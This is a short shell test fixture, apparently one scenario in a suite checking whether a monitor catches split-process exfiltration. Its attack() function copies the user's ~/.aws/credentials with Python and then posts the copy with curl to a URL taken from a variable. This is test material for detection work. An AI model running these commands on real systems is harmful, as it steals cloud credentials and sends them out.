# SPDX-License-Identifier: Apache-2.0
TITLE="a copy by python's shutil, sent later by another process"
ROW="R05 R07"
attack() {
	python3 -c 'import shutil, os; shutil.copyfile(os.environ["HOME"] + "/.aws/credentials", "copy")'
	sleep 0.3
	curl -s -m 5 --data-binary @copy "$URL/"
}
